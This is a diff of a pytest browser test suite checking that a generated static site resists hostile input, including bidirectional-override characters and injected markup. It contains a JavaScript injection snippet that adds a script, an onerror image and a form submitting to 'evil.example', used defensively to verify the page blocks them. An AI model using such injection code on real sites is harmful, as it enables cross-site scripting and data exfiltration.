@@ -20,9 +20,9 @@ pytestmark = pytest.mark.browser
 NETWORKS = ("pipeline", "overview", "compound", "partners", "targets", "path")
 THINGS = ("compound", "organization", "indication", "target", "payload", "technology")
 OTHERS = {"trial": "name", "conference": "venue", "person": "person"}
-LISTS = ("index", "findings", "names", "releases", "company", "compound")
+LISTS = ("index", "findings", "names", "releases", "company")
 ASKED = ("orphan-designations", "pipeline", "news", "companies-by-technology", "companies-by-technology-drawn", "stage-conflicts")
-IN_SITE = ("pipeline", "matrix", "timeline", "path")
+IN_SITE = ("partners", "matrix", "timeline", "path")
 PAGES = [
     *(f"alone/{view}" for view in VIEWS),
     *(f"{name}.html" for name in (*LISTS, *IN_SITE)),
@@ -33,6 +33,8 @@ PAGES = [
     *(f"questions/{name}.html" for name in ASKED),
     "ontology/index.html",
 ]
+LIVE = ("iri", "nct")
+"""What only answers of a server show: identifiers that are no web address, and registry numbers; see test_hostile_server.py."""
 TOO_LONG = {f"questions/technologies-and-targets{ending}.html" for ending in ("", "-drawn")}
 """Every technology of a compound beside every target and payload of it: a hundred thousand rows for one with all payloads."""
 SHOWN = {
@@ -57,6 +59,19 @@ SHOWN = {
     "id/release": "quote raw repair repairrule hedge window findingkind cited technology stage kind venue region type",
 }
 """Which texts a page must show with every payload; a build with fewer would prove less."""
+
+NOT_SET_APART = """() => { const text = document.querySelector('#text').cloneNode(true);
+  for (const apart of text.querySelectorAll('bdi')) apart.remove();
+  return text.textContent }"""
+INJECT = """() => {
+  const s = document.createElement('script'), i = document.createElement('img'), f = document.createElement('form');
+  s.textContent = 'window.ran = 1';
+  i.setAttribute('onerror', 'window.ran = 1');
+  i.src = 'x';
+  f.action = 'http://evil.example/';
+  document.body.append(s, i, f);
+  f.submit();
+}"""
 
 
 def file(hostile: Build, kind: str) -> Path:
@@ -123,7 +138,7 @@ def test_every_payload_is_in_every_text(hostile: Build) -> None:
     for f in one_a_page:
         for field, number in met_on(hostile.site.page(f)):
             seen[field].add(number)
-    assert {field: sorted(set(ALL) - seen[field]) for field in FIELDS if seen[field] != set(ALL)} == {}
+    assert {field: sorted(set(ALL) - seen[field]) for field in FIELDS if field not in LIVE and seen[field] != set(ALL)} == {}
 
 
 def test_a_text_is_all_there(browser: Browser, hostile: Build) -> None:
@@ -136,8 +151,7 @@ def test_marks_of_direction_do_not_turn_a_release(browser: Browser, hostile: Bui
     """An override in a text is a mark that can be read; no character of the page has any effect on direction."""
     with browser.open(file(hostile, "id/release")) as visit:
         assert visit.page.locator("#text .unseen", has_text="U+202E").count() > 1
-        alone = "() => { const t = document.querySelector('#text').cloneNode(true); t.querySelectorAll('bdi').forEach(b => b.remove()); return t.textContent }"
-        assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(visit.run(alone))
+        assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(visit.run(NOT_SET_APART))
 
 
 def test_names_are_shown_as_they_are(browser: Browser, hostile: Build) -> None:
@@ -145,17 +159,6 @@ def test_names_are_shown_as_they_are(browser: Browser, hostile: Build) -> None:
     with browser.open(hostile.alone("compound")) as visit:
         assert visit.text("h1") == called("compound", 0)
         assert visit.run("() => document.title") == called("compound", 0)
-
-
-INJECT = """() => {
-  const s = document.createElement('script'), i = document.createElement('img'), f = document.createElement('form');
-  s.textContent = 'window.ran = 1';
-  i.setAttribute('onerror', 'window.ran = 1');
-  i.src = 'x';
-  f.action = 'http://evil.example/';
-  document.body.append(s, i, f);
-  f.submit();
-}"""
 
 
 @pytest.mark.parametrize("kind", ["alone/matrix", "releases.html"])
@@ -177,11 +180,7 @@ def test_payloads_would_bite(browser: Browser, hostile: Build) -> None:
     places += ("<textarea>{}</textarea>", "<style>{}</style>", "<script>var x = '{}';</script>", "<!-- {} -->", "<pre>{}</pre>")
     with browser.open(hostile.page("releases.html")) as visit:
         assert faults(visit, [page]) == []
-        bite = [
-            name
-            for name, text in PAYLOADS.items()
-            if _caught(visit, page, [place.format(text) for place in places if "<" in text or place.startswith(("<input", "<b", "<a"))])
-        ]
+        bite = [name for name, text in PAYLOADS.items() if _caught(visit, page, [place.format(text) for place in places])]
     assert len(bite) >= 40, sorted(set(PAYLOADS) - set(bite))
 
 
